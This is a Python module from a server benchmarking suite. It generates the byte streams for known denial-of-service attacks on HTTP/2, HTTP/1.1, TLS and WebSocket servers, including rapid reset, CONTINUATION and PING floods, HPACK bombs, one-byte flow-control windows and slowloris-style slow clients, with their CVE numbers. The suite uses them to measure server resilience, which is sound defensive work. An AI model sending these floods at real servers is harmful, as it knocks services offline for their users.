"""Floods and slow clients that have hurt servers, on every protocol: the bytes that attackers of each kind send.

`tests/adversaries/test_floods.py` counts what the same kinds do to stanchion; the case `adversaries` measures what they
cost others.
"""

import contextlib
import itertools
import ssl
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from bench import certificate
from bench.sockets import HANDSHAKE

Turns = Iterator[bytes]
"""The bytes that a connection sends, turn by turn. At the end the attacker closes it and opens another one."""

H2, H1, BELOW_TLS = "h2", "http/1.1", ""
SLOW_S = 0.1
READ_BYTES = 1 << 16
SLOW_READ_BYTES = 1000
"""A slow reader reads as much in a turn."""

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
LAST_STREAM = (1 << 31) - 1
CANCEL = struct.pack(">I", 8)
GET = b"\x82\x84\x87\x01\x01a"
POST = b"\x83\x84\x87\x01\x01a"
GET_BIG = b"\x82\x04\x04/big\x87\x01\x01a"
"""Heads of requests to the authority a, by HPACK's static table (RFC 7541 appendix A)."""
FIELDS = b"\x00\x01a\x01b" * 100
"""Literal fields, each with a name and a value of a byte."""


@dataclass(frozen=True)
class Attack:
    name: str
    turns: Callable[[], Turns]
    # The protocol that the client asks for by ALPN, or BELOW_TLS where it sends the bytes without a handshake.
    over: str = H2
    # Between two turns of a connection; without it the attacker sends as fast as it can.
    pause_s: float = 0.0
    # Whether it reads no more than SLOW_READ_BYTES in a turn.
    reads_slowly: bool = False
    needs_websockets: bool = False
    # How long the app takes for the requests that the attackers begin with: that is load, whatever comes after it.
    opening_s: float = 0.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 section 4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def setting(name: int, value: int) -> bytes:
    """A frame of SETTINGS with one setting (RFC 9113 section 6.5)."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", name, value))


BEGINNING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
"""Clients begin with the preface and their settings (RFC 9113 section 3.4)."""


def reset(number: int) -> bytes:
    return frame(RST_STREAM, 0, number, CANCEL)


def window_of_none(number: int) -> bytes:
    """An error of the stream, for which the server resets it (RFC 9113 section 6.9)."""
    return frame(WINDOW_UPDATE, 0, number, bytes(4))


def ended_streams(frame_behind: Callable[[int], bytes], each: int = 100) -> Turns:
    """A frame behind each request ends its stream."""
    yield BEGINNING
    for first in range(1, LAST_STREAM, 2 * each):
        numbers = range(first, first + 2 * each, 2)
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, GET) + frame_behind(n) for n in numbers)


def repeated(first: bytes, again: bytes, times: int) -> Turns:
    yield first
    yield from itertools.repeat(again * times)


def over_http2(first: bytes, again: bytes, times: int = 500) -> Turns:
    return repeated(BEGINNING + first, again, times)


def hpack_bombs(each: int = 10) -> Turns:
    """One field of 4,000 bytes goes into the table, and each byte of later heads stands for it."""
    big = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    yield BEGINNING + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + big)
    for first in range(3, LAST_STREAM, 2 * each):
        numbers = range(first, first + 2 * each, 2)
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, GET + b"\xbe" * 15_000) for n in numbers)


def windows_of_a_byte() -> Turns:
    """Each turn lets the server send one byte of each of twenty answers."""
    numbers = range(1, 40, 2)
    heads = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, GET_BIG) for n in numbers)
    updates = b"".join(frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 1)) for n in numbers)
    return repeated(BEGINNING + setting(4, 0) + heads, updates, 1)


def hello() -> bytes:
    """A ClientHello (RFC 8446 section 4.1.2)."""
    out = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        certificate.unverifying().wrap_bio(ssl.MemoryBIO(), out).do_handshake()
    return out.read()


def hello_in_pieces() -> Turns:
    """The whole of it, for which the server computes its answer; then the client leaves."""
    for byte in hello():
        yield bytes([byte])


def handshake_alone() -> Turns:
    """The client leaves once its handshake is done."""
    return iter(())


def masked(first: int, payload: bytes = b"") -> bytes:
    """A frame of a client (RFC 6455 section 5.2), masked with zeroes."""
    return bytes([first, 0x80 | len(payload)]) + bytes(4) + payload


def head(method: str, path: str, *fields: str) -> bytes:
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: bench", *fields, "", ""]).encode()


def read_slowly() -> Turns:
    yield head("GET", "/big")
    yield from itertools.repeat(b"")


NONE = Attack("nothing", lambda: iter(()))
"""No attacker at all: this row shows how much the machine itself varies."""

ATTACKS = {
    attack.name: attack
    for attack in (
        NONE,
        # CVE-2023-44487 and CVE-2025-8671.
        Attack("rapid resets", lambda: ended_streams(reset)),
        Attack("made-you-resets", lambda: ended_streams(window_of_none)),
        # CVE-2024-27316: a head without an end.
        Attack("CONTINUATION", lambda: over_http2(frame(HEADERS, 0, 1, GET), frame(CONTINUATION, 0, 1, FIELDS), 20)),
        Attack("empty CONTINUATION", lambda: over_http2(frame(HEADERS, 0, 1, GET), frame(CONTINUATION, 0, 1))),
        # CVE-2019-9512, 9515, 9518 and 9511.
        Attack("PING", lambda: over_http2(b"", frame(PING, 0, 0, bytes(8)))),
        Attack("SETTINGS", lambda: over_http2(b"", frame(SETTINGS, 0, 0))),
        Attack("empty DATA", lambda: over_http2(frame(HEADERS, END_HEADERS, 1, POST), frame(DATA, 0, 1))),
        Attack("windows of a byte", windows_of_a_byte, opening_s=1.0),
        Attack("HPACK bombs", hpack_bombs),
        Attack("hellos in pieces", hello_in_pieces, over=BELOW_TLS),
        Attack("handshakes", handshake_alone, over=H1),
        Attack("empty TLS records", lambda: repeated(b"", b"\x16\x03\x01\x00\x00", 200), over=BELOW_TLS),
        Attack("slow heads", lambda: repeated(head("GET", "/")[:-2] + b"X: ", b"x", 1), over=H1, pause_s=SLOW_S),
        Attack(
            "slow bodies",
            lambda: repeated(head("POST", "/", "Content-Length: 100000"), b"x", 1),
            over=H1,
            pause_s=SLOW_S,
        ),
        Attack("slow readers", read_slowly, over=H1, pause_s=SLOW_S, reads_slowly=True),
        Attack(
            "WebSocket fragments",
            lambda: repeated(HANDSHAKE + masked(0x01, b"x"), masked(0x00, b"x"), 100),
            over=H1,
            needs_websockets=True,
        ),
    )
}
